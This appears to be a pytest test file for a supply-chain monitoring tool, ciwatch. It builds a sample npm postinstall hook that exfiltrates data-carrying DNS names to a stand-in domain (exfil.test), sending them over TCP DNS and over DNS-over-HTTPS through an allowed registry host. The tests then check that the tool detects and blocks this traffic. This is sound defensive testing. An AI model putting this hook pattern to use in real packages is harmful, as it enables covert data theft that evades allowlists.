"""Class 2, the proxy's side: DNS that doesn't go to ciwatch's DNS listener.

An install hook sends data-carrying names under exfil.test over TCP to the configured DNS
server (a DNS stream, as glibc's TCP fallback would send it) and by DNS-over-HTTPS (wire format
by GET ``?dns=``, and the JSON API) to the allowed registry's own host. Bare, the names reach
the DNS server and the registry; under ciwatch they are recorded and judged by dns-tunnel and
unfamiliar-egress, naming the package and hook; in block mode none of them leaves (exit 3),
even though the DoH server is an allowed host.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tests.support.attacks import (
    DEFAULT_POLICY,
    POLICY_FAILED,
    assert_found,
    assert_replay_agrees,
    npm_install,
    npm_project,
    watch,
)
from tests.support.internet import EXFIL, NPM_REGISTRY, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

PACKAGE = "dns-elsewhere"
VERSION = "1.0.0"
TCP_NAMES = [f"{i}f3a9c27d81b46e05{i}7c2.{EXFIL}" for i in range(3)]
DOH_NAMES = [f"{i}b8e41d09c6f2a753{i}9d4.{EXFIL}" for i in range(3)]


def _hook(dns_server: str) -> str:
    return textwrap.dedent(
        f"""\
        import base64, socket, struct, urllib.request

        def query(name):
            labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
            return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 16, 1)

        for name in {TCP_NAMES!r}:
            try:
                with socket.create_connection(("{dns_server}", 53), timeout=5) as s:
                    q = query(name)
                    s.sendall(struct.pack(">H", len(q)) + q)
                    s.recv(4096)
            except OSError:
                pass
        for i, name in enumerate({DOH_NAMES!r}):
            if i % 2:
                url = "https://{NPM_REGISTRY}/resolve?name=" + name + "&type=TXT"
            else:
                wire = base64.urlsafe_b64encode(query(name)).decode().rstrip("=")
                url = "https://{NPM_REGISTRY}/dns-query?dns=" + wire
            try:
                request = urllib.request.Request(url, headers={{"accept": "application/dns-message"}})
                urllib.request.urlopen(request, timeout=10).read()
            except Exception:
                pass
        """
    )


def _doh_requests(internet: TestInternet) -> list[str]:
    return [r.path for r in internet.requests_to(NPM_REGISTRY) if r.path.startswith(("/dns-query", "/resolve"))]


def _publish(internet: TestInternet) -> None:
    internet.publish_npm(
        PACKAGE,
        VERSION,
        package_json_extra={"scripts": {"postinstall": f"{sys.executable} hook.py"}},
        files={"hook.py": _hook(internet.dns_server)},
    )


def test_bare_the_names_reach_the_dns_server_and_the_doh_host(internet: TestInternet, tmp_path: Path) -> None:
    script = tmp_path / "hook.py"
    script.write_text(_hook(internet.dns_server))
    env = internet.client_env(tmp_path / "home")
    subprocess.run(internet.wrap_with_test_resolver([sys.executable, str(script)]), env=env, check=True, timeout=60)
    tcp = [q.name for q in internet.dns_log() if q.transport == "tcp"]
    assert tcp == TCP_NAMES
    assert len(_doh_requests(internet)) == len(DOH_NAMES)


def test_audit_records_and_judges_the_names(internet: TestInternet, tmp_path: Path) -> None:
    _publish(internet)
    project = npm_project(tmp_path / "project")
    watched = watch(internet, tmp_path / "home", project, tmp_path / "out", npm_install(f"{PACKAGE}@{VERSION}"))
    assert watched.code == 0, watched.stderr[-3000:]
    assert [q.name for q in internet.dns_log() if q.transport == "tcp"] == TCP_NAMES
    tunnel = assert_found(watched, "dns-tunnel", f"{PACKAGE}@{VERSION}", "postinstall")
    assert EXFIL in {f["host"] for f in tunnel}
    egress = assert_found(watched, "unfamiliar-egress", f"{PACKAGE}@{VERSION}", "postinstall")
    assert set(TCP_NAMES + DOH_NAMES) <= {f["host"] for f in egress}, watched.described()
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, "sandbox"])
def test_block_refuses_every_name_before_it_leaves(internet: TestInternet, tmp_path: Path, net: str | None) -> None:
    _publish(internet)
    project = npm_project(tmp_path / "project")
    watched = watch(
        internet,
        tmp_path / "home",
        project,
        tmp_path / "out",
        npm_install(f"{PACKAGE}@{VERSION}"),
        policy=DEFAULT_POLICY,
        mode="block",
        net=net,
    )
    assert watched.code == POLICY_FAILED, watched.stderr[-3000:] + watched.described()
    leaked = [name for name in internet.dns_queries() if name.endswith("." + EXFIL)]
    assert leaked == [] and _doh_requests(internet) == []
    assert_found(watched, "dns-tunnel", f"{PACKAGE}@{VERSION}", "postinstall")
    assert_replay_agrees(watched)
